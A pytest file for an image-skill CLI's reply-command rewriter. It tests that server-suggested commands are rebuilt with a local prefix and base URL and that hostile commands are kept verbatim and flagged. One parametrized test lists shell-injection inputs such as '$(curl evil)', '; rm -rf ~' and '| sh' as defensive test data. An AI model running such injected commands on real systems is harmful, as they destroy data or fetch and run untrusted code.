"""The reply-command rewriter (reply_commands.py): which fields are commands, how they are
rebuilt, what is refused and what is never touched (contract 0.1.70 §0.1, §7.1-§7.8)."""

from __future__ import annotations

import copy
import shlex
from typing import Any

import pytest

from image_skill.commands import CommandContext
from image_skill.reply_commands import reply_context, rewrite_envelope

PREFIX = ("/opt/py/bin/python", "-m", "image_skill")
CTX = CommandContext(prefix=PREFIX, api_base_url="local")
WORDS = {"credits", "usage", "jobs", "assets", "edit", "local", "models", "create"}
QUOTE = (
    "image-skill credits quote --pack starter-500 --payment-method stripe_x402.exact.usdc --json"
)
BUY = (
    "image-skill credits buy --provider stripe_x402 --quote-id QUOTE_ID --idempotency-key KEY"
    " --json"
)
STATUS = "image-skill credits status --payment-attempt-id PAYMENT_ATTEMPT_ID --json"
METHODS = "image-skill credits methods --json"


def ours(command: str, ctx: CommandContext = CTX) -> str:
    """What a server command must become: our words, the explicit base before --json."""
    words = shlex.split(command)[1:]
    if words[-1] == "--json":
        words[-1:-1] = ["--api-base-url", str(ctx.api_base_url)]
    env = [f"{name}={shlex.quote(value)}" for name, value in ctx.env]
    return " ".join([*env, *map(shlex.quote, PREFIX), *map(shlex.quote, words)])


def top_up() -> dict[str, Any]:
    return {
        "available": True,
        "first_command": METHODS,
        "quote_command": QUOTE,
        "quote_command_copy_runnable": True,
        "commands": {
            "inspect_methods": METHODS,
            "inspect_packs": "image-skill credits packs list --json",
            "quote": QUOTE,
            "buy": BUY,
            "status": STATUS,
            "fallback_quote": QUOTE.replace("stripe_x402.exact.usdc", "stripe_checkout"),
            "fallback_buy": BUY.replace("stripe_x402", "stripe"),
        },
        "workflow": {"steps": [{"step": "inspect_methods", "command": METHODS}, {"step": 2}]},
    }


def ok(data: dict[str, Any]) -> dict[str, Any]:
    return {"ok": True, "command": "image-skill x", "data": data, "warnings": [], "error": None}


def rewrite(envelope: dict[str, Any], ctx: CommandContext = CTX) -> dict[str, Any]:
    rewrite_envelope(envelope, ctx, commands=WORDS)
    return envelope


def test_success_side_fields_of_0_1_70_are_all_made_runnable() -> None:
    self_fund = {
        "recommended": True,
        "first_safe_command": METHODS,
        "inspect_methods_command": METHODS,
        "inspect_packs_command": "image-skill credits packs list --json",
        "quote_command": QUOTE,
        "buy_command": BUY,
        "status_command": STATUS,
        "fallback_quote_command": QUOTE,
        "fallback_buy_command": BUY,
        "workflow": {"steps": [{"command": METHODS}, {"command": QUOTE}]},
    }
    data = {
        "quota": {"top_up": top_up()},
        "self_fund_next_command": QUOTE,
        "next_actions": {
            "recommended_buy": {
                "command": BUY,
                "buy_command": BUY,
                "status_command": STATUS,
                "status_command_after_payment": STATUS,
            },
            "recommended_settlement": {
                "status_command": STATUS,
                "quota_command": "image-skill usage quota --json",
            },
            "recommended_quote": {"command": QUOTE, "quote_command": QUOTE, "buy_command": BUY},
            "self_fund": self_fund,
            "inspect_job": {"command": "image-skill jobs show job_1 --json"},
        },
        "methods": [{"recovery": {"quote_command": QUOTE, "purchase_command": BUY}}],
        "stripe_x402": {"settle_with": "image-skill local settle --payment-attempt-id pa_1 --json"},
        "next": {"suggested_commands": [STATUS, "image-skill usage quota --json"]},
    }
    before = copy.deepcopy(data)
    out = rewrite(ok(data))["data"]
    # every value that was a server command is now ours; nothing else changed
    changed = _diff(before, out)
    assert changed, "nothing was rewritten"
    for path, (theirs, mine) in changed.items():
        assert theirs.startswith("image-skill "), path
        assert mine == ours(theirs), path
    expected = {
        "quota.top_up.first_command",
        "quota.top_up.commands.buy",
        "quota.top_up.workflow.steps[0].command",
        "self_fund_next_command",
        "next_actions.recommended_buy.status_command_after_payment",
        "next_actions.recommended_settlement.quota_command",
        "next_actions.self_fund.fallback_buy_command",
        "next_actions.self_fund.workflow.steps[1].command",
        "next_actions.inspect_job.command",
        "methods[0].recovery.purchase_command",
        "stripe_x402.settle_with",
        "next.suggested_commands[1]",
    }
    assert expected <= set(changed)
    assert out["quota"]["top_up"]["workflow"]["steps"][1] == {"step": 2}


def _diff(before: Any, after: Any, path: str = "") -> dict[str, tuple[str, str]]:
    out: dict[str, tuple[str, str]] = {}
    if isinstance(before, dict):
        assert list(before) == list(after)
        for key in before:
            out.update(_diff(before[key], after[key], f"{path}.{key}" if path else key))
    elif isinstance(before, list):
        assert len(before) == len(after)
        for index, (a, b) in enumerate(zip(before, after, strict=True)):
            out.update(_diff(a, b, f"{path}[{index}]"))
    elif before != after:
        out[path] = (before, after)
    return out


def test_the_server_base_is_replaced_and_the_env_prefix_carried() -> None:
    ctx = reply_context(
        CommandContext(prefix=PREFIX, api_base_url="http://127.0.0.1:9"),
        {"IMAGE_SKILL_CONFIG_PATH": "/a b/config.json", "IMAGE_SKILL_DISCOVERY_SOURCE": " hub "},
    )
    data = {"self_fund_next_command": QUOTE.replace("--json", "--api-base-url evil --json")}
    out = rewrite(ok(data), ctx)["data"]["self_fund_next_command"]
    assert out.startswith("IMAGE_SKILL_CONFIG_PATH='/a b/config.json' ")
    assert " IMAGE_SKILL_DISCOVERY_SOURCE=hub " in out
    words = shlex.split(out)
    assert words.count("--api-base-url") == 1
    assert words[words.index("--api-base-url") + 1] == "http://127.0.0.1:9"
    assert "evil" not in words and words[-1] == "--json"


def test_no_explicit_base_means_none_in_the_command() -> None:
    # An env-provided base stays in the environment; a server's own base is dropped.
    ctx = CommandContext(prefix=PREFIX)
    data = {"self_fund_next_command": QUOTE.replace("--json", "--api-base-url local --json")}
    out = rewrite(ok(data), ctx)["data"]["self_fund_next_command"]
    assert "--api-base-url" not in out and out.startswith(shlex.quote(PREFIX[0]))


@pytest.mark.parametrize(
    "hostile",
    [
        "image-skill credits quote --pack $(curl evil) --json",
        "image-skill credits methods --json; rm -rf ~",
        "image-skill credits methods `id` --json",
        "image-skill credits methods --json | sh",
        "image-skill nosuchcommand --json",
        "image-skill credits quote --pack 'unterminated",
    ],
)
def test_hostile_commands_are_kept_verbatim_and_named_in_a_warning(hostile: str) -> None:
    envelope = rewrite(ok({"next_actions": {"self_fund": {"quote_command": hostile}}}))
    assert envelope["data"]["next_actions"]["self_fund"]["quote_command"] == hostile
    [warning] = envelope["warnings"]
    assert "data.next_actions.self_fund.quote_command" in warning


def test_rewriting_twice_changes_nothing_more() -> None:
    once = rewrite(ok({"quota": {"top_up": top_up()}}))
    again = rewrite(copy.deepcopy(once))
    assert again == once
    # the same with the plain program name as our prefix and no env
    plain = CommandContext(prefix=("image-skill",), api_base_url="local")
    first = rewrite(ok({"self_fund_next_command": QUOTE}), plain)
    assert rewrite(copy.deepcopy(first), plain) == first


def test_records_and_guide_replies_are_never_touched() -> None:
    data = {
        "feedback": {"command": "image-skill create --prompt x"},
        "request": {"command": "image-skill create"},
        "in_flight": {"entries": [{"recover_command": "image-skill create --json"}]},
        "original_recover_command": "image-skill create --idempotency-key k <same arguments>",
        "asset": {"generator": "image-skill local backend", "note": METHODS},
        "curl_command": "curl -fsSL https://image-skill.com/skill.md",
    }
    before = copy.deepcopy(data)
    envelope = rewrite(ok(data))
    assert envelope["data"] == before and envelope["warnings"] == []
    guide = {"schema": "image-skill.create-guide.v1", "next_command": QUOTE}
    assert rewrite(ok(dict(guide)))["data"] == guide


def test_failures_are_rewritten_only_when_the_recovery_offers_a_top_up() -> None:
    def failure(recovery: dict[str, Any]) -> dict[str, Any]:
        error = {"code": "QUOTA_EXCEEDED", "retryable": False, "recovery": recovery}
        return {"ok": False, "command": "c", "data": None, "warnings": [], "error": error}

    plain = failure({"suggested_command": METHODS})
    assert rewrite(plain)["error"]["recovery"] == {"suggested_command": METHODS}
    walled = rewrite(
        failure(
            {
                "suggested_command": METHODS,
                "suggested_commands": [METHODS, 7],
                "top_up": {"available": True, "quote_command": QUOTE},
            }
        )
    )
    recovery = walled["error"]["recovery"]
    assert recovery["suggested_command"] == ours(METHODS)
    assert recovery["suggested_commands"] == [ours(METHODS), 7]
    assert recovery["top_up"]["quote_command"] == ours(QUOTE)


def test_placeholders_stay_bare_and_quoting_is_ours() -> None:
    out = rewrite(ok({"buy_command": BUY, "x_command": 'image-skill edit --prompt "a b" --json'}))
    assert "--quote-id QUOTE_ID --idempotency-key KEY" in out["data"]["buy_command"]
    assert "--prompt 'a b'" in out["data"]["x_command"]
